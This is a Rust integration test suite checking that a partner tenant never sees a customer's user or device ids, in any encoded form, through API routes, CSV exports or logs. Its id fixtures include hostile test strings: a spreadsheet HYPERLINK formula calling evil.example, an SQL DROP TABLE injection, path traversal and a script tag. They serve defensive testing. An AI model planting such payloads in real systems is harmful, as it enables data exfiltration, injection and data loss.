//! T15, P13: individual users of a customer, in anything that a partner can reach.

use std::fmt::Write;

use http::Method;
use percent_encoding::{NON_ALPHANUMERIC, utf8_percent_encode};
use rstest::rstest;
use rstest_reuse::apply;
use serde_json::{Value, json};
use tsunagu_domain::licenses::holder::{DeviceId, HolderId, Source, UserId};
use tsunagu_tests::{
    Engine, Response, both_engines,
    product::{Person, Product, Tenant, column},
    vendor::{bought, used_on},
};

use crate::{
    disguises::Disguises,
    events::{Operation, functions, operations, plausible},
    t17_logs::{heard, listen},
};

/// Ids that are easily carried along: whatever a service may call somebody.
pub(crate) fn users() -> Vec<String> {
    let mut users: Vec<_> = [
        "田中・花子",
        "=HYPERLINK(\"http://evil.example/?u=hanako\",\"x\")",
        "o'brien\"; DROP TABLE users; --",
        "acc_01JQ7Z8Q4V9X7M2N5P6R8S0T1X",
        "hanako.tanaka@sakura-kogyo.example",
        "user/../%2e%2e%2Fplatform",
        "<script>alert(\"hanako\")</script>",
        "e\u{301}milie+漢字?a=b&c=d#e",
        "SAKURA\\Hanako Tanaka",
    ]
    .map(str::to_owned)
    .into();
    users.push("ながいなまえ・longname".repeat(20).chars().take(256).collect());
    users
}

fn devices() -> Vec<String> {
    let mut devices: Vec<_> = [
        "花子のノート",
        "+1-800-HANAKO-PC",
        "org_01JQ7Z8Q4V9X7M2N5P6R8S0T1Y",
        "{\"host\": \"hanako-pc\"}",
        "00:1B:44:11:3A:B7/hanako",
    ]
    .map(str::to_owned)
    .into();
    devices.push("端末device-".repeat(40).chars().take(256).collect());
    devices
}

/// Every id with the forms in which it could be told.
fn secrets() -> Vec<(String, Disguises)> {
    let of_user = |id: String| {
        let user: UserId = id.parse().expect("a user's id");
        let holders = [Source::Reported, Source::Federation].map(|by| HolderId::of_user(by, &user));
        let own = holders.each_ref().map(HolderId::of_own_device);
        let digests: Vec<_> = holders.iter().chain(&own).map(ToString::to_string).collect();
        let forms = Disguises::of(&id, &digests);
        (id, forms)
    };
    let of_device = |id: String| {
        let device: DeviceId = id.parse().expect("a device's id");
        let forms = Disguises::of(&id, &[HolderId::of_device(&device).to_string()]);
        (id, forms)
    };
    let users = users().into_iter().map(of_user);
    users.chain(devices().into_iter().map(of_device)).collect()
}

struct Stage {
    product: Product,
    partner: Tenant,
    customer: Tenant,
    /// The ids of all the customer's holders.
    holders: Vec<String>,
    /// What the customer itself was shown of them, before some were released.
    own: String,
}

/// A customer in whose account ids are everywhere: as holders, as released ones, and pending.
async fn stage(engine: Engine) -> Option<Stage> {
    let product = Product::open(engine).await?;
    let partner = product.partner("misaki@minato.example", "みなとクラウド").await;
    let customer = product.register("taro@sakura.example", "さくら商事").await;
    product.connect(&customer, &partner).await;
    for (service, model) in [("daas", "user-device"), ("mail", "user"), ("chat", "user")] {
        product.offer(service, model).await;
    }
    product.entitle(&customer, "EN-1", &bought("daas", 3)).await;
    product.entitle(&customer, "EN-2", &bought("mail", Value::Null)).await;
    let order = json!({"orderedOn": "2026-03-01", "lines": [{"service": "daas", "quantity": 1}]});
    let path = format!("{}/orders/SO-1", customer.platform_path());
    product.platform().put(&path, &order).await.expect(201);
    customer.admin.post(&customer.at("/trials"), &json!({"service": "chat"})).await.expect(201);

    let days = ["2025-11-30", "2026-01-15", "2026-03-01", "2026-03-02"];
    let devices = devices();
    let mut usage = Vec::new();
    for (number, user) in users().iter().enumerate() {
        // Two of three have not been there for a month, and can be released.
        for day in if number % 3 == 0 { &days[..] } else { &days[..2] } {
            let device = &devices[number % devices.len()];
            for service in ["daas", "mail"] {
                usage.push(used_on(&customer, service, user, device, day));
            }
            let mut alone = used_on(&customer, "daas", user, "", day);
            alone.as_object_mut().expect("an event").remove("deviceId");
            usage.push(alone);
        }
    }
    product.report(&usage).await;
    product.aggregate().await;
    let mut holders = Vec::new();
    let mut own = String::new();
    for (service, list) in [("daas", "users"), ("daas", "devices"), ("mail", "users")] {
        let path = customer.at(&format!("/licenses/{service}/{list}"));
        let listed = customer.admin.get(&format!("{path}?limit=100")).await;
        keep(&mut own, list, &listed);
        let listed = listed.expect(200);
        for holder in column(&listed, "/holderId") {
            let holder = holder.as_str().expect("an id").to_owned();
            let released = format!("{path}/{holder}/release");
            let released = customer.admin.post(&released, &json!({})).await.status.as_u16();
            assert!([204, 409].contains(&released), "{released}");
            holders.push(holder);
        }
    }
    product.aggregate().await;
    // Some usage is pending while the partner looks.
    let late = users().into_iter().map(|user| used_on(&customer, "daas", &user, "p", "2026-02-02"));
    product.report(&late.collect::<Vec<_>>()).await;
    Some(Stage { product, partner, customer, holders, own })
}

/// What the vendor's machines do wrong, and what goes wrong inside, with ids at hand.
async fn go_wrong(stage: &Stage) {
    let Stage { product, customer, holders, .. } = stage;
    let user = &users()[0];
    let mut wrong = vec![
        used_on(customer, "nonsense", user, "d", "2026-03-01"),
        used_on(customer, "daas", user, "d", "2020-03-01"),
        used_on(customer, "daas", &format!("{user}\u{7}"), "d", "2026-03-01"),
        used_on(customer, "daas", &user.repeat(100), "d", "2026-03-01"),
    ];
    wrong[0][user] = json!(user);
    wrong.push(json!(user));
    let answer = product.send_usage(&wrong).await.expect(200);
    assert_eq!(answer["rejected"].as_array().map(Vec::len), Some(5));
    let good = [used_on(customer, "daas", user, &devices()[0], "2026-03-02")];
    product.world.faults().stop_database();
    product.send_usage(&good).await.expect(503);
    let event = json!({"scheduledTime": product.world.now()});
    let run = product.world.gateway.invoke("usage-aggregation", event).await.expect("it is there");
    assert!(run.is_err(), "the database is away");
    let path = customer.at(&format!("/licenses/daas/users/{}/release", holders[0]));
    customer.admin.post(&path, &json!({})).await.expect(503);
    product.world.faults().heal();
    product.report(&good).await;
    let path = customer.at(&format!("/licenses/daas/users/{user}/release"));
    let path = utf8_percent_encode(&path, NON_ALPHANUMERIC).to_string().replace("%2F", "/");
    customer.admin.post(&path, &json!({})).await;
}

/// The ids by which the partner fills a path: its own account and its customer's.
fn fill(stage: &Stage, operation: &Operation, account: &Tenant, service: &str) -> String {
    let Stage { partner, customer, holders, .. } = stage;
    let mut path = operation.path.clone();
    for name in operation.parameters() {
        let value = match name {
            "partner" | "csp" => partner.id.clone(),
            "customer" => customer.id.clone(),
            "account" | "accountId" => account.id.clone(),
            "orgId" => customer.org.clone(),
            "service" => service.to_owned(),
            "holderId" => holders[0].clone(),
            _ => plausible(name),
        };
        path = path.replace(&format!("{{{name}}}"), &value);
    }
    path
}

/// Questions to an operation: good ones and bad ones, also with the id of a user in them.
pub(crate) fn questions(operation: &Operation) -> Vec<String> {
    let user = utf8_percent_encode(&users()[1], NON_ALPHANUMERIC).to_string();
    let mut all = vec![String::new(), "?limit=1".to_owned(), format!("?nonsense={user}")];
    for name in &operation.query {
        let good: &[&str] = match name.as_str() {
            "format" => &["csv"],
            "interval" => &["day"],
            "from" => &["2025-10"],
            "to" => &["2026-03"],
            "level" => &["over"],
            "state" => &["active"],
            "kind" => &["purchased"],
            "service" => &["daas"],
            "search" => &["sakura"],
            "sort" => &["-utilization"],
            "tag" | "cursor" | "limit" => &[],
            "hasOverage" | "hasTrials" | "hasOpenTickets" => &["true"],
            _ => &["1"],
        };
        all.extend(good.iter().map(|value| format!("?{name}={value}")));
        all.push(format!("?{name}={user}"));
    }
    all
}

/// Everything that came back, headers too.
pub(crate) fn keep(shown: &mut String, what: &str, answer: &Response) {
    writeln!(shown, "\n{what} {}", answer.status).expect("memory");
    for (name, value) in &answer.headers {
        writeln!(shown, "{name}: {}", String::from_utf8_lossy(value.as_bytes())).expect("memory");
    }
    shown.push_str(&String::from_utf8_lossy(&answer.body));
}

/// All that the partner gets to see by every route that there is; with all questions, or the plain one.
async fn look_everywhere(stage: &Stage, all: bool) -> String {
    let mut shown = String::new();
    let Stage { partner, customer, .. } = stage;
    let mut asked = 0;
    for operation in operations(functions()) {
        let key = operation.key();
        if operation.method != "GET" {
            let path = fill(stage, &operation, customer, "daas");
            if path.contains("/licenses/") {
                keep(&mut shown, &key, &partner.admin.post(&path, &json!({})).await);
            }
            continue;
        }
        let who: Vec<Person> = ["ja", "en"].map(|language| partner.admin.reading(language)).into();
        let as_customer = operation.path.contains("{account}").then_some(customer);
        let services =
            if operation.path.contains("{service}") { &["daas", "mail"][..] } else { &[""] };
        for account in [partner].into_iter().chain(as_customer) {
            for service in services {
                let path = fill(stage, &operation, account, service);
                let questions = if all { questions(&operation) } else { vec![String::new()] };
                for (place, question) in questions.iter().enumerate() {
                    let answer = who[place % 2].get(&format!("{path}{question}")).await;
                    keep(&mut shown, &key, &answer);
                    asked += 1;
                }
                let file = who[0].with("accept", "text/csv").get(&path).await;
                keep(&mut shown, &key, &file);
                keep(&mut shown, &key, &who[1].get(&path).await);
            }
        }
    }
    assert!(asked > if all { 300 } else { 40 }, "all routes are asked, {asked} questions");
    shown
}

pub(crate) fn assert_nothing_of(secrets: &[(String, Disguises)], what: &str, text: &str) {
    for (id, forms) in secrets {
        let found = forms.found_in(text);
        assert!(found.is_empty(), "{id} is in {what}: {found:?}");
    }
}

/// Nobody of a customer is in anything that its partner reaches, nor in the log, in whatever form.
#[apply(both_engines)]
async fn t15_given_users_everywhere_then_a_partner_and_the_log_are_told_of_none(engine: Engine) {
    listen();
    let Some(stage) = stage(engine).await else { return };
    go_wrong(&stage).await;
    let before = look_everywhere(&stage, true).await;
    stage.product.aggregate().await;
    let after = look_everywhere(&stage, false).await;
    let log = heard();

    let secrets = secrets();
    for text in [&before, &after] {
        assert!(
            text.contains("\"assigned\":") && text.contains("割り当て済み"),
            "figures and files"
        );
        assert_nothing_of(&secrets, "an answer", text);
    }
    assert!(log.contains("usage aggregated") && log.contains("/users/{holderId}/release"), "{log}");
    assert_nothing_of(&secrets, "the log", &log);

    // The search bites: the customer itself reads them all.
    for (id, forms) in &secrets {
        let found = forms.found_in(&stage.own);
        assert!(found.contains(&"JSON"), "{id} in {}", stage.own);
        let is_held = found.iter().any(|name| name.contains("holder"));
        assert!(is_held, "{id} by its holder's id, {found:?}");
    }
}

/// What the partner sees of licences and knows by itself, to the byte.
async fn figures(stage: &Stage) -> Vec<Vec<u8>> {
    let Stage { partner, customer, .. } = stage;
    let base = partner.customer(customer);
    let mut all = Vec::new();
    for path in [
        base.clone(),
        partner.at("/customers"),
        partner.at("/customers?format=csv"),
        partner.at("/overview"),
        partner.at("/customer-licenses"),
        partner.at("/customer-licenses?format=csv"),
        partner.at("/customer-entitlements"),
        format!("{base}/licenses"),
        format!("{base}/licenses?format=csv"),
        format!("{base}/licenses/daas/trends"),
        format!("{base}/licenses/daas/trends?interval=day"),
        format!("{base}/licenses/mail/trends?format=csv"),
    ] {
        let answer = partner.admin.get(&path).await;
        assert_eq!(answer.status, 200, "{path}");
        all.push(answer.body.to_vec());
    }
    all
}

/// Usage and releases move nothing that a partner sees until the next run: not even `asOf`.
#[apply(both_engines)]
async fn t15_given_usage_and_releases_then_figures_move_with_the_next_run_only(engine: Engine) {
    let Some(stage) = stage(engine).await else { return };
    let Stage { product, partner, customer, .. } = &stage;
    product.aggregate().await;
    let before = figures(&stage).await;
    let usage = ["new-1", "new-2"].map(|user| used_on(customer, "daas", user, user, "2026-03-02"));
    product.report(&usage).await;
    product.world.wait(chrono::TimeDelta::minutes(50));
    assert_eq!(figures(&stage).await, before, "usage waits");

    let path = customer.at("/licenses/mail/users");
    let users = customer.admin.get(&path).await.expect(200);
    assert_eq!(column(&users, "/userId").len(), 4, "the others were released");
    let old = [used_on(customer, "mail", "somebody-idle", "x", "2025-12-01")];
    product.report(&old).await;
    product.aggregate().await;
    let before = figures(&stage).await;
    let users = customer.admin.get(&path).await.expect(200);
    let users = users["items"].as_array().expect("users");
    let idle = users.iter().find(|user| user["userId"] == "somebody-idle").expect("a holder");
    let release = format!("{path}/{}/release", idle["holderId"].as_str().expect("an id"));
    customer.admin.send(Method::POST, &release, None).await.expect(204);
    let users = customer.admin.get(&path).await.expect(200);
    assert_eq!(column(&users, "/userId").len(), 4, "gone from the account's own list at once");
    assert_eq!(figures(&stage).await, before, "a release waits");

    product.tick();
    product.aggregate().await;
    let after = figures(&stage).await;
    let moved: Vec<_> = before.iter().zip(&after).map(|(one, other)| one != other).collect();
    assert!(moved.iter().filter(|moved| **moved).count() >= 8, "they do move: {moved:?}");
    let licenses = partner.admin.get(&format!("{}/licenses", partner.customer(customer))).await;
    assert_eq!(licenses.expect(200)["asOf"], json!(product.world.now()));
}
